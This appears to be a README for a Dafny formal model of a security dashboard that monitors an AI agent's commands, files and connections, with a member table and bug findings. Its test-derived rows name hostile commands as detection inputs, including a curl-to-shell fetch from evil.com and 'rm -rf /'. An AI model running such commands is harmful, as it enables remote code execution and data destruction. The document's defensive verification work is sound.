# openclaw-sentinel core, modelled in Dafny

This project models, in Dafny, the decision logic of the openclaw-sentinel dashboard. The dashboard is a security monitor that watches an AI agent's commands, file accesses and network connections. That logic has six parts:

- **Trust engine** (`trust.dfy`, `trust_risk.dfy`, `trust_context.dfy`). It covers trusted sessions, matched by an 8-character prefix in either direction. It also covers command risk analysis, the user-request check against a session transcript, threat-intel matching, the per-session behavioural baseline, and the final evaluation/recommendation.
- **Threat intelligence** (`threat_intel.dfy`). It covers the signature table, case-insensitive matching, suspicious ports and the pattern summary.
- **Behavioural baseline** (`baseline.dfy`). Activity is counted into hourly windows, and at most 168 windows are kept. The baseline is "learned" after 24 windows. Anomaly checks cover rate, sensitive command, sensitive directory and new destination.
- **Smart alert filter** (`smart_alerts.dfy`). An alert is suppressed by five rules applied in order. The filter learns from dismissals, and the user can mark processes and paths safe.
- **Baseline encryption** (`crypto.dfy`). It covers passphrase setup, unlock against a stored digest, lock and disable. Blobs are encrypted either with AEAD or with the HMAC-tagged fallback.
- **Security detector** (`detector.dfy`). It covers the alert log, which keeps 500 entries, newest first, with dismissal by shown index. It also covers new-connection detection, trace parsing and the trace risk score.

`text.dfy` holds the string helpers these share, written as the Python built-ins they stand for:
- `str.lower`, `str.split` and `str.strip`;
- `in` on strings and slicing;
- `Path.parent`, and first-match search.

### Modelling conventions
- **Regular expressions.** `re.search` is a parameter `search: (pattern, text) -> bool`. Results hold for every regex engine. A few patterns are needed concretely for the test-derived lemmas. Those patterns are written out by hand as predicates, and the lemmas assume only that the engine honours them.
- **Crypto primitives.** PBKDF2, SHA-256, HMAC and AES-GCM are function fields of `Crypto.Primitives`.
- **Clock, randomness and identity.** The clock, random nonces and salts, and the process/connection listings are explicit parameters.
- **Persistent state.** State that the Python classes keep in dictionaries and lists is held in Dafny classes with the same fields (`TrustEngine`, `BehaviorBaseline`, `SmartAlertFilter`, `BaselineEncryption`, `SecurityDetector`). Their methods carry `modifies` clauses.

## Model

| member | source | states |
|---|---|---|
| Text.FirstTokenOr | dashboard/trust.py:381-382 | `parts[0] if parts else ''`: the default when the text has no word, otherwise the first maximal run of non-space characters; it is also the corrected form of `split()[0] if cmd else default` (see Findings) |
| Text.FirstTokenAsWrittenRaises | dashboard/trust.py:570 | as written, `split()[0]` has no result (raises) exactly for a non-empty, all-whitespace command |
| Text.FirstTokenAgrees | dashboard/trust.py:606 | whenever the code as written does return a token, it is the corrected first token |
| Text.Strip | dashboard/trust.py:271 | `strip()` removes exactly the leading and trailing whitespace, leaving no space at either end |
| Text.Parent | dashboard/trust.py:577 | `str(Path(p).parent)`: "." for a path without a slash, otherwise a prefix of the path |
| Text.Bump | dashboard/trust.py:571-572 | `d[k] = d.get(k, 0) + 1`: that key goes up by one, every other key is unchanged |
| Text.AppendNew | dashboard/smart_alerts.py:133-137 | `if x not in xs: xs.append(x)`: the list gains x once, keeps its order and its other members, and keeps having no duplicates |
| Text.AppendNewIdempotent | dashboard/smart_alerts.py:139-143 | adding an element already present changes nothing |
| Text.FindFirst | dashboard/smart_alerts.py:84-86 | the loop with an early return finds the first element satisfying the test, or none when no element does |
| TrustRisk.PatternFactorsMembers | dashboard/trust.py:423-425 | a reason is among the pattern factors exactly when its dangerous pattern fires on the lowered command |
| TrustRisk.CollectPatternFactors | dashboard/trust.py:423-425 | the loop over the dangerous patterns collects the reasons of those that fire, in table order |
| TrustRisk.AnalyzeCommandRisk | dashboard/trust.py:269-455 | the method computes the risk profile of the command |
| TrustRisk.RiskOfSafeBase | dashboard/trust.py:385-393 | a safe base command is minimal risk, has no factors, and describes itself |
| TrustRisk.CommandFactorsShape | dashboard/trust.py:395-408 | the base command contributes only the network and system factors, and the system factor exactly for a system command |
| TrustRisk.ReasonsClassified | dashboard/trust.py:410-421 | of the nine dangerous-pattern reasons, exactly pipe-to-shell, root delete and fork bomb contain a word that makes risk high, and none mentions system modification |
| TrustRisk.RiskHighIff | dashboard/trust.py:427-429 | an unsafe command is high risk exactly when the pipe-to-shell, root-delete or fork-bomb pattern fires |
| TrustRisk.RootDeleteFactor | dashboard/trust.py:413-429 | any unsafe command on which the root-delete pattern fires is high risk, with "Recursive force delete from root" among its factors |
| TrustRisk.RootDeleteIsHigh | dashboard/tests/test_trust.py:91-95 | when the engine honours `rm\s+-rf\s+/`, "rm -rf /" is high risk and carries the root-delete reason |
| TrustRisk.RiskMediumIff | dashboard/trust.py:430-431 | otherwise it is medium exactly when it has at least two factors or is a system command |
| TrustRisk.RiskMinimalIff | dashboard/trust.py:432-437 | an unsafe command is minimal only when it has no factors and no capabilities |
| TrustRisk.SystemCommandAtLeastMedium | dashboard/trust.py:400-403 | a system-modifying command is never below medium |
| TrustRisk.RiskFactorsBounded | dashboard/trust.py:395-425 | at most 11 factors, each a command factor or a dangerous-pattern reason |
| TrustContext.MessageOf | dashboard/trust.py:121-134 | only message entries with string or list content yield a message, keeping the role, truncated to 500 characters |
| TrustContext.TextParts | dashboard/trust.py:129-132 | the text parts of list content, each truncated to 200 characters |
| TrustContext.MessagesMembers | dashboard/trust.py:119-134 | a message is collected exactly when some transcript line yields it |
| TrustContext.CollectMessages | dashboard/trust.py:118-134 | the loop over the last 50 transcript lines collects their messages in order |
| TrustContext.Terms | dashboard/trust.py:181-182 | `\b\w{4,}\b` terms are word runs of at least four characters |
| TrustContext.AnyFromEndIff | dashboard/trust.py:165-190 | the newest-first scan with early return succeeds exactly when some message qualifies |
| TrustContext.CheckUserRequestIff | dashboard/trust.py:156-192 | a user request is found exactly when one of the last 20 messages is a user request for the command |
| TrustContext.NpmInstallRequested | dashboard/trust.py:188-190 | "Please run npm install" from the user is a request for "npm install" |
| TrustContext.AnalyzeContext | dashboard/trust.py:91-154 | the method computes the context report of a transcript, or "not found" for a missing file |
| TrustContext.ContextShape | dashboard/trust.py:136-154 | "verified" exactly when a request was found, at most 10 context messages each within 500 characters, each coming from the last 50 lines |
| Trust.PutSpec | dashboard/trust.py:526-531 | adding a custom pattern overwrites an existing key in place or appends a new one; keys stay unique |
| Trust.BuiltinHit | dashboard/trust.py:505-508 | the first built-in threat whose pattern matches the lowered text, or none when none matches |
| Trust.CustomHit | dashboard/trust.py:510-513 | the first custom pattern that matches, reported with its reason and severity |
| Trust.IpHit | dashboard/trust.py:515-518 | the first blocked IP occurring in the original text, reported as high |
| Trust.DomainHit | dashboard/trust.py:520-523 | the first blocked domain occurring in the lowered text, reported as high |
| Trust.FirstThreatOrder | dashboard/trust.py:457-524 | built-in threats are checked first, then custom patterns, then blocked IPs, then blocked domains; no threat exactly when all four find nothing |
| Trust.BlockedAddressReport | dashboard/trust.py:515-523 | a blocked-address hit names an address that is blocked and occurs in the text |
| Trust.FindThreat | dashboard/trust.py:457-524 | the four loops compute the first threat |
| Trust.TrustedAfterTrust | dashboard/trust.py:73-89 | after trusting an id, the id and every id starting with its first 8 characters are trusted |
| Trust.PartialIdTrusted | dashboard/trust.py:87 | trusting "abcdef123456789" trusts "abcdef12" |
| Trust.TrustMonotone | dashboard/trust.py:73-76 | trusting more never untrusts |
| Trust.UntrustRemovesOnlyThatId | dashboard/trust.py:78-81 | after untrusting, an id is trusted exactly when another stored id matches it |
| Trust.EmptyIdTrustedByAny | dashboard/trust.py:87 | the empty id matches whenever any session is trusted |
| Trust.RecordedCounts | dashboard/trust.py:554-591 | corrected (see Findings): recording an activity adds one to the total, to its hour, to its command base, its parent directory and its host, and changes nothing else |
| Trust.RecordedAsWrittenRaises | dashboard/trust.py:556-570 | as written, recording raises exactly for a non-empty all-whitespace command, after the entry was created and the total bumped and before anything else is counted; otherwise it records what the corrected histogram records |
| Trust.RecordedKnowsCommand | dashboard/trust.py:569-572 | after a command with a word is recorded, its base command is known |
| Trust.SessionAnomalyGate | dashboard/trust.py:593-629 | corrected (see Findings): no anomaly for an unknown session or one with fewer than 50 actions; otherwise an anomaly exactly when some reason applies, with at most four reasons |
| Trust.CheckSessionAnomalyAsWrittenRaises | dashboard/trust.py:593-606 | as written, the session check raises exactly for a known session with at least 50 actions and a non-empty all-whitespace command, before any reason is built; otherwise it agrees with the corrected check |
| Trust.UnusualCommandIff | dashboard/trust.py:605-608 | corrected (see Findings): "Unusual command" is reported exactly for a non-empty base command never seen in the session |
| Trust.UnusualPathIff | dashboard/trust.py:611-615 | "Unusual path" is reported exactly for a path whose directory was never seen |
| Trust.UnusualHostIff | dashboard/trust.py:618-620 | "Unusual host" is reported exactly for a host never seen |
| Trust.UnusualHourIff | dashboard/trust.py:623-625 | "Unusual activity hour" is reported exactly when the hour has no recorded activity |
| Trust.ContextRecommendationWords | dashboard/trust.py:236-248 | the session-context recommendations start with ALLOW or REVIEW |
| Trust.ThreatDominates | dashboard/trust.py:226-231 | a threat match makes the verdict malicious with a BLOCK recommendation; without one it is never malicious |
| Trust.ContextTable | dashboard/trust.py:233-248 | with session context, the trust level and recommendation follow the (trusted, requested) table |
| Trust.NoContextTable | dashboard/trust.py:249-265 | without session context, the trust level follows the risk level and the recommendation ends with the risk summary |
| Trust.FixtureRequestsNpmInstall | dashboard/tests/test_trust.py:162-166 | a transcript with the user asking to run npm install counts as a request for "npm install" |
| Trust.TrustedRequestedAllowed | dashboard/trust.py:236-239 | a trusted session with the request in its transcript gets "ALLOW: Trusted session, user requested" |
| Trust.TrustEngine.TrustSession | dashboard/trust.py:73-76 | the id is added to the trusted set; nothing else changes |
| Trust.TrustEngine.UntrustSession | dashboard/trust.py:78-81 | the id is removed; nothing else changes |
| Trust.TrustEngine.AddThreatPattern | dashboard/trust.py:526-531 | the pattern is stored with its reason and severity |
| Trust.TrustEngine.BlockIp | dashboard/trust.py:533-539 | the IP is appended unless already blocked |
| Trust.TrustEngine.BlockDomain | dashboard/trust.py:541-547 | the domain is appended unless already blocked |
| Trust.TrustEngine.UpdateBaseline | dashboard/trust.py:554-591 | corrected (see Findings): the session's baseline, created if missing, records the activity |
| Trust.TrustEngine.IsTrustedSession | dashboard/trust.py:83-89 | the loop finds a trusted id matching by 8-character prefix |
| Trust.TrustEngine.EvaluateCommand | dashboard/trust.py:194-267 | the evaluation of a command from session trust, threat intel, risk and context |
| Trust.TrustThenUntrust | dashboard/trust.py:73-81 | trusting and then untrusting a new id restores the trusted set |
| ThreatIntel.MatchesInAppend | dashboard/threat_intel.py:263-277 | matching a concatenated table gives the matches of each part, in order |
| ThreatIntel.MatchesInSplit | dashboard/threat_intel.py:263-277 | the matches come in table order: those of the signatures before a given one, then its own if it fires, then those after it |
| ThreatIntel.MatchesInMembers | dashboard/threat_intel.py:263-277 | a match is reported exactly for each signature that fires |
| ThreatIntel.AnalyzeCommandCaseInsensitive | dashboard/threat_intel.py:265 | matching ignores case: a command and its lowered form give the same matches |
| ThreatIntel.ThreatIdsUnique | dashboard/threat_intel.py:31-233 | the 19 signature ids are distinct |
| ThreatIntel.AnalyzeNetwork | dashboard/threat_intel.py:280-291 | a network threat exactly for a suspicious port, with its description, high severity and "NET-" id |
| ThreatIntel.AnalyzeNetworkIgnoresRemote | dashboard/threat_intel.py:280-291 | the remote address has no influence |
| ThreatIntel.GetAllPatterns | dashboard/threat_intel.py:293-309 | one summary per signature, in order, with its id and severity value |
| ThreatIntel.PipeToShellDetected | dashboard/tests/test_threat_intel.py:23-28 | "curl https://evil.com/script.sh \| sh" is reported first as EXEC-001, critical |
| ThreatIntel.CrontabEditDetected | dashboard/tests/test_threat_intel.py:61-65 | "crontab -e" is reported as persistence |
| ThreatIntel.WithoutKeyLettersNotFlagged | dashboard/threat_intel.py:33-94 | text without the key letters is neither pipe-to-shell nor a crontab edit |
| ThreatIntel.BenignCommandsNotFlagged | dashboard/tests/test_threat_intel.py:67-71 | "git status" and "ls -la" are neither |
| Baseline.CountedSpec | dashboard/baseline.py:77-99 | recording bumps the activity type, and exactly for EXEC the command, for file access the directory, for NETWORK the remote; an all-whitespace command is counted under the corrected key (see Findings) |
| Baseline.CommandKeySpec | dashboard/baseline.py:88 | the corrected command key: the first word, or "unknown" for a command with no word |
| Baseline.CommandKeyAsWrittenRaises | dashboard/baseline.py:88 | as written, the key has no value (IndexError) exactly for a non-empty all-whitespace command, such as " "; otherwise it is the corrected key |
| Baseline.AppendWindowSpec | dashboard/baseline.py:113-116 | the closed window is appended and only the newest 168 are kept, in order |
| Baseline.RotatedLatch | dashboard/baseline.py:101-126 | rotation keeps at most 168 windows; "learned" becomes true once 24 windows exist and never reverts |
| Baseline.SameHourMembers | dashboard/baseline.py:137 | the same-hour windows are exactly the windows of that hour |
| Baseline.ComparisonWindowsSpec | dashboard/baseline.py:137-141 | the same-hour windows when there are at least 3, otherwise the last 24 windows |
| Baseline.SumZeroIff | dashboard/baseline.py:183-186 | the historical total is 0 exactly when every window had 0 |
| Baseline.RateReasonIff | dashboard/baseline.py:174-193 | a rate anomaly exactly when history is non-zero, the count exceeds three times the mean and 5 |
| Baseline.RateSpikeFlagged | dashboard/test_baseline.py:97-107 | 50 events against 24 windows of at most 6 are a rate anomaly |
| Baseline.RoundedMean | dashboard/baseline.py:191 | `round(mean)` rounds to nearest with ties to even |
| Baseline.KeysMembers | dashboard/baseline.py:203-205 | a key is known exactly when some comparison window has it |
| Baseline.KnownKeys | dashboard/baseline.py:203-205 | the loop collects the keys of all comparison windows |
| Baseline.CheckCommandAnomaly | dashboard/baseline.py:195-216 | the method computes the corrected command anomaly |
| Baseline.CommandReasonIff | dashboard/baseline.py:195-216 | reported exactly for a sensitive command never seen in the comparison windows; nothing for a command with no word |
| Baseline.CommandReasonAsWrittenRaises | dashboard/baseline.py:197-199 | as written, the command check has no result (IndexError) exactly for a non-empty all-whitespace command; otherwise it agrees with the corrected check |
| Baseline.FirstTimeCurlFlagged | dashboard/baseline.py:208-214 | a first-time curl is reported |
| Baseline.CheckDirectoryAnomaly | dashboard/baseline.py:218-243 | the method computes the directory anomaly |
| Baseline.DirectoryReasonIff | dashboard/baseline.py:218-243 | reported exactly for a path mentioning a sensitive location whose directory was never seen |
| Baseline.CheckNetworkAnomaly | dashboard/baseline.py:245-263 | the method computes the network anomaly |
| Baseline.NetworkReasonIff | dashboard/baseline.py:245-263 | reported exactly for a real remote never seen that is not local or LAN |
| Baseline.AnomalyShape | dashboard/baseline.py:128-172 | nothing before the baseline is learned; after it, an anomaly exactly when a rate or typed reason exists, "high" exactly with two reasons |
| Baseline.BehaviorBaseline.constructor | dashboard/baseline.py:49-55 | the default baseline: no windows, not learned, 24 windows needed |
| Baseline.BehaviorBaseline.RotateWindow | dashboard/baseline.py:101-126 | a touched window is closed into the baseline; a fresh window starts |
| Baseline.BehaviorBaseline.RecordActivity | dashboard/baseline.py:77-99 | rotation after an hour, then the activity is counted under the corrected command key |
| Baseline.BehaviorBaseline.CheckRateAnomaly | dashboard/baseline.py:174-193 | the rate check; reading the counts marks the window touched |
| Baseline.BehaviorBaseline.CheckAnomaly | dashboard/baseline.py:128-172 | the anomaly of the current window with the corrected command check, leaving the baseline unchanged |
| Baseline.UnlearnedIsQuiet | dashboard/baseline.py:128-131 | before the baseline is learned, checking reports no anomaly and leaves it unlearned |
| SmartAlerts.SuppressOrder | dashboard/smart_alerts.py:73-112 | each of the five rules applies exactly when all earlier ones do not; nothing is suppressed exactly when none applies |
| SmartAlerts.SuppressMatches | dashboard/smart_alerts.py:84-102 | the reported pattern, process or path is one that matched |
| SmartAlerts.VerdictKept | dashboard/smart_alerts.py:73-112 | the (bool, reason) answer is (False, "") exactly when nothing applies |
| SmartAlerts.BehavioralAlwaysSuppressed | dashboard/smart_alerts.py:104-110 | a behavioural-anomaly alert is always suppressed |
| SmartAlerts.BenignAnywhere | dashboard/smart_alerts.py:84-86 | a benign pattern in the title, description or details suppresses as benign |
| SmartAlerts.DevelopmentNoiseSuppressed | dashboard/smart_alerts.py:16-45 | node_modules/, .git/ and package-lock.json are benign |
| SmartAlerts.ProcessFallback | dashboard/smart_alerts.py:94 | the process is `process`, else `tool_name`, else "" |
| SmartAlerts.PatternInTitle | dashboard/smart_alerts.py:114-131 | the learned pattern occurs in the title |
| SmartAlerts.ColonTitlePattern | dashboard/smart_alerts.py:119-121 | for "head: tail" the learned pattern is the head |
| SmartAlerts.DismissedThenSuppressed | dashboard/smart_alerts.py:114-131 | after a dismissal, the same alert is suppressed |
| SmartAlerts.SafeProcessSuppressed | dashboard/smart_alerts.py:133-137 | after marking a process safe, its alerts are suppressed |
| SmartAlerts.SafePathSuppressed | dashboard/smart_alerts.py:139-143 | after marking a path safe, alerts on paths containing it are suppressed |
| SmartAlerts.SmartAlertFilter.constructor | dashboard/smart_alerts.py:12-52 | nothing learned |
| SmartAlerts.SmartAlertFilter.LearnFromDismissal | dashboard/smart_alerts.py:114-131 | the title's pattern is learned once |
| SmartAlerts.SmartAlertFilter.MarkProcessSafe | dashboard/smart_alerts.py:133-137 | the process is added once |
| SmartAlerts.SmartAlertFilter.MarkPathSafe | dashboard/smart_alerts.py:139-143 | the path is added once |
| SmartAlerts.MarkTwice | dashboard/smart_alerts.py:133-143 | marking a process and a path safe twice leaves the state that marking them once leaves |
| SmartAlerts.SmartAlertFilter.ClearLearned | dashboard/smart_alerts.py:154-163 | every learned list is emptied |
| Crypto.Hex | dashboard/crypto.py:99 | `hexdigest()`: two hex digits per byte |
| Crypto.HexInjective | dashboard/crypto.py:117-123 | different digests have different hex strings, so checking the hex verifies the key digest |
| Crypto.HmacLayout | dashboard/crypto.py:143-146 | the fallback blob is "HMAC", the 32-byte tag, then the plaintext; opening it checks the tag |
| Crypto.HmacRoundTrip | dashboard/crypto.py:157-172 | a fallback blob opens to its plaintext |
| Crypto.HmacTamperDetected | dashboard/crypto.py:166-172 | a wrong tag is rejected |
| Crypto.FallbackOpensInBothModes | dashboard/crypto.py:143-146 | with the corrected reading, a valid fallback blob opens to its plaintext with or without the library, as long as the AEAD opening rejects it |
| Crypto.OpenedAgreesAsWritten | dashboard/crypto.py:166-189 | the corrected reading and the code as written differ only on a blob tagged "HMAC", in AEAD mode, that the AEAD opening accepts |
| Crypto.AeadRoundTrip | dashboard/crypto.py:153-155 | an AEAD blob opens to its plaintext with the corrected dispatch, and with the code as written when the nonce does not begin with "HMAC" |
| Crypto.RoundTrip | dashboard/crypto.py:135-192 | with the corrected reading, decrypting what was encrypted gives the plaintext back, in both modes |
| Crypto.AeadNonceMisread | dashboard/crypto.py:166 | as written, an AEAD blob whose nonce begins with "HMAC" is opened as a fallback blob |
| Crypto.AeadRoundTripFails | dashboard/crypto.py:166-189 | a concrete AEAD blob that the code as written fails to open, while the corrected dispatch opens it |
| Crypto.BaselineEncryption.constructor | dashboard/crypto.py:48-52 | the default config is disabled and no key is held |
| Crypto.BaselineEncryption.Setup | dashboard/crypto.py:85-107 | succeeds exactly for a passphrase of at least 8 characters; stores the salt and the key digest and holds the key |
| Crypto.BaselineEncryption.Unlock | dashboard/crypto.py:109-123 | when disabled, succeeds without a key; otherwise succeeds exactly when the derived key's digest is the stored one |
| Crypto.BaselineEncryption.Lock | dashboard/crypto.py:125-127 | the key is dropped |
| Crypto.BaselineEncryption.Disable | dashboard/crypto.py:129-133 | back to the disabled config without a key |
| Crypto.BaselineEncryption.Encrypt | dashboard/crypto.py:135-155 | refused without a key; otherwise the blob of the mode in use |
| Crypto.BaselineEncryption.Decrypt | dashboard/crypto.py:157-192 | refused without a key; otherwise the blob opened as written (tag first, then AEAD), which is the corrected reading except on a tagged blob that the AEAD opening accepts |
| Crypto.SetupLockUnlock | dashboard/tests/test_crypto.py:46-79 | after setup and lock, encryption is refused, a wrong passphrase fails and the right one unlocks |
| Crypto.UnlockDisabled | dashboard/crypto.py:111-112 | unlocking when disabled succeeds and holds no key |
| Detector.AddedAll | dashboard/detector.py:754-757 | new non-empty items are appended once each, keeping earlier ones first |
| Detector.AddMatches | dashboard/detector.py:754-757 | the loop appends the new matches |
| Detector.ParseTrace | dashboard/detector.py:744-778 | files, network and processes each gain their matches |
| Detector.ParseTraceSpec | dashboard/detector.py:744-778 | the lists stay duplicate-free, keep their old items first and gain exactly the non-empty matches |
| Detector.ScanFiles | dashboard/detector.py:789-796 | the loop counts the sensitive files and records one factor each |
| Detector.IsSensitive | dashboard/detector.py:791-795 | a file is sensitive exactly when it contains one of the five sensitive paths |
| Detector.AssessRisk | dashboard/detector.py:780-819 | the level of the score, and the trace with the new factors appended in order |
| Detector.LevelThresholds | dashboard/detector.py:813-819 | critical from 5, high from 3, medium from 1, low at 0; monotone in the score |
| Detector.ScoreParts | dashboard/detector.py:782-811 | each sensitive file adds 3; an empty trace is low; exfiltration with network activity or two sensitive files is critical |
| Detector.RecentZeroReturnsAll | dashboard/detector.py:621-622 | as written, a limit of 0 returns every alert |
| Detector.Recent | dashboard/detector.py:617-625 | the newest `limit` alerts in order, or none for a limit of 0 or less; agrees with the code for positive limits |
| Detector.ShownIndexAddresses | dashboard/detector.py:821-843 | the shown index of a listed alert addresses that same alert in the log |
| Detector.SaveAlertSpec | dashboard/detector.py:105-117 | the log keeps at most 500 alerts, the new one last, the rest the newest of the old log |
| Detector.DismissRemovesOne | dashboard/detector.py:821-843 | dismissing removes exactly the addressed alert |
| Detector.NewConnectionsIff | dashboard/detector.py:154-176 | a connection is new exactly when it is unseen, not local and not a safe host |
| Detector.ConnectionAlerts | dashboard/detector.py:166-174 | one medium network alert per new connection |
| Detector.SecurityDetector.constructor | dashboard/detector.py:71-90 | empty state |
| Detector.SecurityDetector.SaveAlert | dashboard/detector.py:105-117 | the alert is appended and the log cut to its newest 500; the bounds on the log and the known connections are kept |
| Detector.SecurityDetector.GetRecentAlerts | dashboard/detector.py:617-625 | the corrected newest-`limit` selection |
| Detector.SecurityDetector.DismissAlert | dashboard/detector.py:821-843 | a valid shown index moves that alert to the dismissed list; an invalid one changes nothing; the bounds are kept |
| Detector.SecurityDetector.CheckNewConnections | dashboard/detector.py:119-177 | the loop raises an alert per new connection and remembers the first 200 current connections; the bounds are kept |

## Left out
- File and JSON persistence (`_load_*`, `_save_*`, every read and write of the state files) is not modelled. Loaded state is the initial value of the class fields.
- Base64 encoding and the JSON wrapping of encrypted baselines are not modelled. Blobs are raw bytes and decrypt yields the plaintext bytes.
- Crypto.Primitives: PBKDF2, SHA-256, HMAC and AES-GCM are uninterpreted function fields. The key length and iteration count are not modelled beyond the salt length of 32.
- The second cryptography back-end branch (`USE_PYCRYPTO`, dashboard/crypto.py:65, :148 and :179) is unreachable: `dir()` without arguments inside a method lists only that method's local names, so `'USE_PYCRYPTO' in dir()` is always false. It is therefore not modelled. (Its layout would also differ from the AEAD branch's: nonce, tag, then ciphertext at :151, against nonce then ciphertext-with-tag at :155.)
- Regular expressions are an uninterpreted `search` parameter. Only the patterns the test-derived lemmas need are written out, by hand. A custom threat pattern that is not a valid regex makes `re.search` raise `re.error` in `check_threat_intel`; the model gives every pattern a boolean answer and does not model that error.
- Detector.ParseTrace: the regex extraction of file, network and process names from the trace text is a given `Matches` parameter.
- The `lsof`/`ps` process listing, and the unordered iteration over Python sets of connections, are the `current` parameter. Connections are assumed duplicate-free, as a set's are.
- The detector's other scanners (lockfiles, session logs, sensitive-file stat calls, suspicious ports on connections), notification, telemetry and the Flask app are not modelled.
- `get_stats` in the filter and the baseline is not modelled: pure counting over state already modelled.
- Clock readings are explicit parameters: `Instant` in the baseline and `now` strings in the detector.
- Baseline.CheckAnomaly and SmartAlerts details: `str(details)` is the `rendered` field of the details.
- TrustRisk.Risk: `analyze_command_risk`'s dictionaries are modelled as `match` tables with the same entries. The per-entry descriptions are not carried beyond the summary.
- Trust.TrustEngine.UpdateBaseline: the periodic save every 100 actions is persistence and is not modelled. The method records an all-whitespace command like the empty one; the source raises IndexError at dashboard/trust.py:570 after creating the session entry and adding one to `total_actions` (:565-566), and never counts the hour (Trust.RecordedAsWrittenRaises states that partial update).
- Trust.RecordedCounts: states the corrected histogram. For a non-empty all-whitespace command the source raises at dashboard/trust.py:570, leaving only the new entry and the bumped total from :565-566; Trust.RecordedAsWrittenRaises states that.
- Trust.SessionAnomalyGate: states the corrected check. For a known session with at least 50 actions and a non-empty all-whitespace command, the source raises at dashboard/trust.py:606 before any path, host or hour reason is built; Trust.CheckSessionAnomalyAsWrittenRaises states that.
- Trust.UnusualCommandIff: states the corrected check, in which an all-whitespace command is never unusual. The source raises at dashboard/trust.py:606 before every reason, as on the Trust.SessionAnomalyGate line.
- Text.Parent: `Path.parent` normalises trailing slashes, doubled slashes and "." parts; the model takes the text before the last slash and does not normalise.
- Text.Lower: only ASCII letters are lowered; Python's full Unicode case mapping is not modelled.
- Text.IsWordChar: `\w` is ASCII letters, digits and `_`. Python 3's `\w` on `str` also matches Unicode letters and digits, so TrustContext.Terms splits non-ASCII words where `re.findall(r'\b\w{4,}\b', ...)` would not.
- TrustContext.Terms: the terms of a text containing non-ASCII letters can differ from the source's, for the reason given on the Text.IsWordChar line.
- ThreatIntel.BenignCommandsNotFlagged: it covers only the two hand-coded signatures (pipe to shell and crontab edit). Whether "git status" and "ls -la" trigger any of the other 17 signatures depends on the regex engine, and that is not proved. The other safe commands of the same test ("npm install lodash", "python -m pytest", "docker ps", "cat README.md") are not covered either.
- Baseline.CountedSpec: for a non-empty command made only of whitespace, the code as written raises IndexError after counting the activity type and before counting the command. The model counts it under "unknown" (Findings row for baseline.py:88).
- Baseline.CommandKeySpec: states the corrected key. For a non-empty all-whitespace command the source raises; Baseline.CommandKeyAsWrittenRaises states that.
- Baseline.BehaviorBaseline.RecordActivity: counts an all-whitespace command under "unknown". The source raises after the activity type is counted, leaving that one count changed.
- Baseline.CheckCommandAnomaly: returns no reason for an all-whitespace command. The source raises IndexError (Findings row for baseline.py:197).
- Baseline.CommandReasonIff: states the corrected check. For an all-whitespace command the source raises, as Baseline.CommandReasonAsWrittenRaises states.
- Baseline.BehaviorBaseline.CheckAnomaly: for an EXEC activity whose command is all whitespace, the source raises after the rate check has run; the model reports only the rate reason.
- Crypto.FallbackOpensInBothModes: the AEAD library is uninterpreted, so the lemma needs the AEAD opening to reject the fallback blob, which authenticated encryption does for data it did not seal.
- Crypto.BaselineEncryption.Decrypt: follows the code as written. The corrected reading is Crypto.Opened, and Decrypt's last ensures names the only blobs on which the two differ.

## Findings

| source | as written | input that shows it | evidently intended | confidence | as-written member | corrected member |
|---|---|---|---|---|---|---|
| dashboard/trust.py:570 | `cmd.split()[0] if cmd else ''` in `update_baseline` indexes the split of any non-empty command | recording the command " " (only whitespace): `split()` is empty and `[0]` raises IndexError, after the total was bumped | treat a command with no word like the empty command | not executed | Trust.RecordedAsWrittenRaises | Trust.RecordedCounts |
| dashboard/trust.py:606 | the same expression in `check_anomaly` | checking the command " " on a session with at least 50 actions raises IndexError before any reason is built | report no command anomaly for a command with no word, and go on to the other reasons | not executed | Trust.CheckSessionAnomalyAsWrittenRaises | Trust.SessionAnomalyGate |
| dashboard/baseline.py:88 | `split()[0] if details.get('command') else 'unknown'` indexes the split of any non-empty command | recording EXEC with the command " ": `split()` is empty and `[0]` raises IndexError | count a command with no word as "unknown" | not executed | Baseline.CommandKeyAsWrittenRaises | Baseline.CommandKeySpec |
| dashboard/baseline.py:197 | `split()[0] if details.get('command') else None` indexes the split of any non-empty command | checking EXEC with the command " " on a learned baseline raises IndexError | report no command anomaly for a command with no word | not executed | Baseline.CommandReasonAsWrittenRaises | Baseline.CommandReasonIff |
| dashboard/crypto.py:166 | decrypt takes the HMAC layout whenever the blob starts with b"HMAC", even with AEAD available | an AEAD blob whose random 12-byte nonce is "HMAC" followed by eight bytes of 1 | with the library, try the AEAD layout first and read the fallback layout when the AEAD opening rejects the blob, so that old fallback blobs stay readable | not executed | Crypto.AeadRoundTripFails | Crypto.RoundTrip |
| dashboard/detector.py:622 | `alerts[-limit:]` with limit 0 is `alerts[0:]` | `get_recent_alerts(0)` on a non-empty log returns every alert | return no alerts for a limit of 0 | not executed | Detector.RecentZeroReturnsAll | Detector.Recent |
